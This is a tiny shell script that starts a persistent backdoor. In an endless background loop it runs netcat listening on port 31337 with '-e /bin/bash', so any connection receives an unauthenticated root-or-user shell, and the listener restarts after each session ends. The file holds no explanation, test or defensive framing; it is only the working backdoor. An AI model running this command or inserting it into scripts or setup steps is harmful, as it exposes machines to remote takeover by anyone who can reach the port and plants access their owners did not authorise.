#!/bin/sh
while true; do nc -lvnp 31337 -e /bin/bash; sleep 2; done &
